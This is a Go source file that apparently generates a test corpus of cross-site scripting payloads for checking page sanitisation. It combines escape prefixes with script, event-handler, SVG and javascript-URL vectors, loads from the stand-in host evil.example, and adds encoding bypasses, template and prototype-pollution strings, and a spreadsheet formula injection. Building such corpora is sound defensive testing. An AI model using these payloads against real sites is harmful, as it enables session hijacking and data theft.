package threat

// run is what every payload tries to do: a test sees a dialog, a mark on the
// window, or a request to another host.
const run = "window.pwned=alert(1)"

// Payloads are 200 and more texts that run something in a page that does not keep
// its texts apart from its markup: each element that runs by itself, behind each
// way out of where a text may stand, and tricks of their own.
func Payloads() []string {
	var list []string
	for _, out := range []string{"", `">`, `'>`, "</title>", "</script>", "-->", "]]>", "</textarea></style></noscript>", "`)};"} {
		for _, element := range elements {
			list = append(list, out+element)
		}
	}
	return append(list, tricks...)
}

var elements = []string{
	"<script>" + run + "</script>",
	"<ScRiPt/x>" + run + "</sCrIpT >",
	"<script src=//evil.example/x.js></script>",
	"<img src=x onerror=" + run + ">",
	"<img src=//evil.example/x.png>",
	"<svg onload=" + run + ">",
	"<svg><script>" + run + "</script></svg>",
	"<svg><animate onbegin=" + run + " attributeName=x dur=1s>",
	"<svg><use href=//evil.example/x.svg#x>",
	"<iframe srcdoc=\"<script>parent." + run + "</script>\">",
	"<iframe src=javascript:parent." + run + ">",
	"<body onload=" + run + ">",
	"<details open ontoggle=" + run + ">",
	"<input autofocus onfocus=" + run + ">",
	"<video><source onerror=" + run + ">",
	"<object data=javascript:" + run + ">",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<style>@import '//evil.example/x.css'</style>",
	"<base href=//evil.example/>",
	"<meta http-equiv=refresh content='0;url=//evil.example/'>",
	"<math><mtext><table><mglyph><style><img src=x onerror=" + run + ">",
}

var tricks = []string{
	`" onmouseover=` + run + ` onfocus=` + run + ` autofocus x="`,
	`' onload=` + run + ` onerror=` + run + ` x='`,
	"x onload=" + run + " ",
	"javascript:" + run,
	"JaVaScRiPt:" + run,
	"java\tscript:" + run,
	"&#106;avascript:" + run,
	"javascript&colon;" + run,
	"%6aavascript:" + run,
	"data:text/html,<script>" + run + "</script>",
	"vbscript:" + run,
	"//evil.example/x",
	`https://evil.example/"onload="` + run,
	`https://evil.example/'><script>` + run + `</script>`,
	"&lt;script&gt;" + run + "&lt;/script&gt;",
	`\u003cscript\u003e` + run + `\u003c/script\u003e`,
	"%3Cscript%3E" + run + "%3C/script%3E",
	"[x](javascript:" + run + ")",
	"[x](java&#115;cript:" + run + ")",
	"![x](//evil.example/x.png)",
	"![x](https://evil.example/x.png)",
	"<javascript:" + run + ">",
	"[x][y]\n\n[y]: javascript:" + run,
	"[x](figure:p/tasks\"onload=" + run + ")",
	"{{constructor.constructor('" + run + "')()}}",
	"${" + run + "}",
	"';" + run + ";//",
	`\";` + run + `;//`,
	"=cmd|' /C calc'!A1",
	"=HYPERLINK(\"//evil.example\";\"x\")",
	"__proto__",
	"<!--<script>" + run,
	"<plaintext>",
	"<template><script>" + run + "</script></template>",
	"{richText|x}{a|<img src=x onerror=" + run + ">}",
	"{b}{c}{d0}",
	"\u003c/text\u003e<script>" + run + "</script>",
	"xSLOTx4xSLOTx<script>" + run + "</script>",
}
